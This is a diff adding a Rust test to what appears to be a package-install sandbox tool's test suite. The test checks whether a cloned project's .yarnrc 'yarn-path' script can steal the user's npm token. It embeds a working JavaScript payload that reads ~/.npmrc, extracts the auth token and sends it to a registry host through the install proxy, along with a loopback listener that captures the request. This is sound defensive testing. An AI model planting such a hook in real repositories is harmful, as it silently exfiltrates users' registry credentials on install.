@@ -960,3 +960,98 @@ for (const f of {rels:?}) {{
         "written with no finding of medium or more naming them: {unseen:?}\nserious findings {serious:#?}"
     );
 }
+
+/// A loopback "registry" that answers 404 to everything and keeps each
+/// request's first line.
+fn line_sink() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
+    use std::io::{Read, Write};
+    use std::sync::{Arc, Mutex};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let heard = Arc::new(Mutex::new(Vec::<String>::new()));
+    let h = heard.clone();
+    // Never joined: it waits for clients that may not come.
+    std::thread::spawn(move || {
+        for mut c in listener.incoming().flatten() {
+            let mut buf = vec![0u8; 8192];
+            let n = c.read(&mut buf).unwrap_or(0);
+            let req = String::from_utf8_lossy(&buf[..n]).to_string();
+            if let Some(first) = req.lines().next() {
+                h.lock().unwrap().push(first.to_string());
+            }
+            let _ = c.write_all(
+                b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
+            );
+        }
+    });
+    (port, heard)
+}
+
+/// The "yarn" a cloned project's `.yarnrc` names (`yarn-path`): it reads
+/// the user's `~/.npmrc` (readable to a yarn install: yarn itself uses
+/// it) and asks the project's registry (a host the plan allows) for a path
+/// carrying the token, through the proxy pkgwarden gives the install.
+const YARN_PATH_JS: &str = r#"
+const fs = require("fs"), path = require("path"), http = require("http");
+let rc = "";
+try { rc = fs.readFileSync(path.join(process.env.HOME, ".npmrc"), "utf8"); } catch (e) { rc = "ERR-" + e.code; }
+const tok = (rc.match(/_authToken=(\S+)/) || [null, rc.slice(0, 20)])[1];
+const reg = fs.readFileSync(path.join(process.cwd(), ".yarnrc"), "utf8").match(/registry "([^"]+)"/)[1];
+const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy || reg);
+process.stderr.write("EYES16 yarn.js: token " + String(tok).slice(0, 8) + "… proxy " + proxy.host + "\n");
+const headers = {host: new URL(reg).host};
+if (proxy.username) headers["proxy-authorization"] = "Basic " + Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
+const req = http.request({host: proxy.hostname, port: proxy.port, path: reg + "pw-" + encodeURIComponent(tok), headers}, res => { let b = ""; res.on("data", d => b += d); res.on("end", () => { process.stderr.write("EYES16 yarn.js: " + res.statusCode + " " + b.slice(0, 200) + "\n"); process.exit(0); }); });
+req.on("error", e => { process.stderr.write("EYES16 yarn.js: " + e.code + "\n"); process.exit(0); });
+req.end();
+"#;
+
+/// Class 10 (credentials read by the wrong code), round 13's "doubtful, by
+/// design" item made concrete. A cloned project's `.yarnrc` names its own
+/// `yarn-path` (`tools/yarn.js`, a file of the repository) and its own
+/// `registry` (a loopback listener; the plan allows it, in block too).
+/// The probe asks the real yarn (`YARN_IGNORE_PATH=1`), but the install
+/// runs the project's file as the manager, in the install's own domain,
+/// where the user's `~/.npmrc` is readable: it read the token of the
+/// user's private registry (another host) and sent it to the project's
+/// registry through pkgwarden's proxy, in block.
+#[test]
+#[ignore = "round 16: a cloned project's .yarnrc yarn-path runs as the manager in block, reads the user's ~/.npmrc token and sends it to the project's registry through the proxy"]
+fn a_projects_yarn_path_does_not_get_the_users_npm_token() {
+    let (port, heard) = line_sink();
+    let env = ShimEnv::new(&[]);
+    let project = env.home.subdir("proj");
+    fs::write(
+        env.home.path().join(".npmrc"),
+        "//127.0.0.1:9/:_authToken=EYES16-NPMTOKEN\n",
+    )
+    .unwrap();
+    fs::create_dir_all(project.join("tools")).unwrap();
+    fs::write(project.join("tools/yarn.js"), YARN_PATH_JS).unwrap();
+    fs::write(
+        project.join(".yarnrc"),
+        format!("yarn-path \"./tools/yarn.js\"\nregistry \"http://127.0.0.1:{port}/\"\n"),
+    )
+    .unwrap();
+    fs::write(
+        project.join("package.json"),
+        support::probes::deps(&[]).to_string(),
+    )
+    .unwrap();
+    let r = support::installs::install(
+        &env,
+        "block",
+        &["yarn", "install", "--non-interactive"],
+        &project,
+        &[],
+    );
+    std::thread::sleep(std::time::Duration::from_millis(200));
+    let heard = heard.lock().unwrap().clone();
+    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
+    assert!(
+        !heard.iter().any(|l| l.contains("EYES16-NPMTOKEN")),
+        "the project's yarn sent the user's npm token to the project's registry: {heard:?}; exit {}; serious findings {said:?}\n{}",
+        r.code,
+        r.stderr
+    );
+}
